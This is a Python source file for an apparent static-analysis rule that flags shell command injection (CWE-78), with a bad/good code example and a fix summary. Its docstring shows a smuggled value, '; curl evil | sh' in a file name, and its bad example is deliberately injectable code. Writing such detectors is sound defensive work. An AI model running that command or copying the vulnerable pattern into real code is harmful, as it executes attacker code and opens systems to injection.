"""A value pasted into a shell command is run by the shell.

`; curl evil | sh` in a file name is all it takes; the command runs with the
service's rights.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from prodwright.kit import (
    Brief,
    Example,
    Hazard,
    Severity,
    Site,
    Source,
    constant,
    keyword,
    only_value,
    varying_parts,
)

EXAMPLES = (
    Example(
        bad="""
            import os
            import subprocess


            def resize(name):
                command = f"convert {name} out.png"
                subprocess.run(command, shell=True, check=True, timeout=9)  # flagged
                os.system("rm -f " + name)  # flagged
        """,
        good="""
            import subprocess
            from pathlib import Path


            def resize(name):
                subprocess.run(["convert", name, "out.png"], check=True, timeout=9)
                Path(name).unlink(missing_ok=True)
        """,
    ),
)

_SHELLS = frozenset(
    {
        "os.system",
        "os.popen",
        "subprocess.getoutput",
        "subprocess.getstatusoutput",
        "commands.getoutput",
        "asyncio.create_subprocess_shell",
    }
)
_RUNS = re.compile(r"subprocess\.(run|call|check_call|check_output|Popen)")


def check(source: Source) -> Iterator[Site]:
    for call in source.nodes(ast.Call):
        name = source.called(call)
        if name is None or not call.args or not _uses_shell(name, call):
            continue
        pasted = [
            hole
            for hole in varying_parts(source, call.args[0])
            if not _is_safe(source, hole)
        ]
        if pasted:
            text = source.segment(pasted[0]).partition("\n")[0]
            yield Site(node=call, message=f"the shell runs whatever {text} contains")


def _uses_shell(name: str, call: ast.Call) -> bool:
    if name in _SHELLS:
        return True
    return (
        constant(keyword(call, "shell")) is True and _RUNS.fullmatch(name) is not None
    )


def _is_safe(source: Source, hole: ast.expr) -> bool:
    value = only_value(source, hole)
    match value:
        case ast.Call(func=ast.Attribute(attr=name) | ast.Name(id=name)):
            return name in (
                "quote",
                "join",
                "list2cmdline",
                "int",
                "getpid",
                "str_quote",
            )
        case ast.Attribute() | ast.Name():
            known = source.qualified(value) or ""
            own_name = value.id if isinstance(value, ast.Name) else value.attr
            return known.startswith(("sys.", "os.")) or own_name.isupper()
        case _:
            return False


REPAIR = Brief(
    summary="Pass a list of arguments without a shell; where a shell is needed, wrap "
    "each value in `shlex.quote`"
)

HAZARD = Hazard(
    title="Run programs without a shell",
    practice="sanitize-io",
    severity=Severity.HIGH,
    check=check,
    repair=REPAIR,
    examples=EXAMPLES,
    references=("CWE-78", "ASVS 5 1.2.5"),
)
